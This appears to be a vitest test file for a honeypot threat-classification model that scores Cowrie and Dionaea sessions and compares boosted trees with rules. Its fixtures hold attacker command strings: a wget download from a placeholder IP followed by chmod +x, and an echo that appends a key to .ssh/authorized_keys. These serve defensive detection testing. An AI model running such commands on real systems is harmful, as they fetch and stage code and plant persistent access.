import { existsSync, readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { LABELLED_SESSIONS, realLines } from '../../testing/real-data.js'
import { THREAT_MODEL } from '../scoring/models/model-file.js'
import { auc, evaluateThreat } from './evaluate-threat.js'
import { type Example, examplesOfExperts, examplesOfSensors } from './examples.js'
import { readLabelled } from './labelled.js'
import { trainThreat } from './train-threat.js'

const few = readLabelled(
  [
    { commands: 'uname -a ;', labels: 'Discovery - 0' },
    {
      commands: 'uname -a ; wget http://192.0.2.1/x ; chmod +x x ;',
      labels: 'Discovery - 0 -- Execution - 2',
    },
    { commands: 'cd ~ ; echo key >> .ssh/authorized_keys ;', labels: 'Persistence - 1' },
  ]
    .map((line) => JSON.stringify(line))
    .join('\n'),
)

describe('examples', () => {
  test('carry the severity of the most severe thing that experts saw, and look at the session as the pipeline does', () => {
    const whole = examplesOfExperts(few).filter(({ view }) => view === 'whole')
    expect(whole.map(({ severity }) => severity)).toEqual([1, 2, 3])
    expect(whole[1]?.facts).toMatchObject({ login_success_count: 1, command_count: 3 })
  })

  test('before the event that decides know nothing of it', () => {
    const line = (second: number, details: object) =>
      JSON.stringify({
        session: 'a1b2c3d4e5f6',
        src_ip: '192.0.2.7',
        timestamp: `2026-03-22T12:00:0${second}.000000Z`,
        ...details,
      })
    const lines = [
      line(0, { eventid: 'cowrie.session.connect' }),
      line(1, { eventid: 'cowrie.login.failed', username: 'root', password: 'a' }),
      line(2, { eventid: 'cowrie.session.file_upload', shasum: 'a'.repeat(64), filename: 'x' }),
      line(3, { eventid: 'cowrie.session.closed' }),
    ]
    const examples = examplesOfSensors(lines)
    const before = examples.find(({ view }) => view === 'before')
    expect(before).toMatchObject({ severity: 2, facts: { event_count: 2, file_count: 0, signals: [] } })
    const whole = examples.find(({ view }) => view === 'whole')
    expect(whole).toMatchObject({ severity: 2, facts: { event_count: 4, file_count: 1 } })
  })
})

test('the area under the curve is 1 for a perfect order, 0 for its reverse, a half for none', () => {
  const answers = (scores: readonly number[]) =>
    scores.map((score, n) => ({ score, example: { severity: n < 2 ? 0 : 2 } as Example }))
  expect(auc(answers([0.1, 0.2, 0.8, 0.9]), 2)).toBe(1)
  expect(auc(answers([0.9, 0.8, 0.2, 0.1]), 2)).toBe(0)
  expect(auc(answers([0.5, 0.5, 0.5, 0.5]), 2)).toBe(0.5)
  expect(auc(answers([0.5]), 2)).toBeNull()
})

describe.skipIf(!existsSync(LABELLED_SESSIONS))('on real data', () => {
  const sessions = existsSync(LABELLED_SESSIONS) ? readLabelled(readFileSync(LABELLED_SESSIONS, 'utf8')) : []
  const records = [...realLines('cowrie'), ...realLines('dionaea')]
  const examples = [...examplesOfSensors(records), ...examplesOfExperts(sessions)]

  test('training reproduces the committed model bit for bit', () => {
    expect(`${JSON.stringify(trainThreat(examples))}\n`).toBe(readFileSync(THREAT_MODEL, 'utf8'))
  }, 60_000)

  test('the model is not worse than rules where it was not trained (attackers, days, experts), and mostly better', () => {
    const evaluations = evaluateThreat(examples)
    const of = (split: string, exam: string, scorer: string) => {
      const found = evaluations.find(
        (each) => each.split === split && each.exam === exam && each.scorer === scorer,
      )
      if (!found) throw new Error(`no ${split} ${exam} ${scorer}`)
      return found
    }
    for (const [split, exam] of [
      ['attacker', 'whole'],
      ['day', 'whole'],
      ['attacker', 'before'],
      ['attacker', 'experts'],
    ] as const) {
      const model = of(split, exam, 'boosted trees')
      const rules = of(split, exam, 'rules')
      expect(model.macro_f1).toBeGreaterThanOrEqual(rules.macro_f1)
    }
    // Levels from high on follow from behaviours, for both; what is left to the model is their order, and low or medium.
    for (const exam of ['whole', 'before'])
      expect(of('attacker', exam, 'boosted trees').macro_f1).toBeGreaterThan(
        of('attacker', exam, 'rules').macro_f1,
      )
    expect(of('attacker', 'experts', 'boosted trees').auc_high).toBeGreaterThan(
      of('attacker', 'experts', 'rules').auc_high ?? 1,
    )
    expect(of('attacker', 'before', 'boosted trees').auc_medium).toBeGreaterThan(0.9)
  }, 60_000)
})
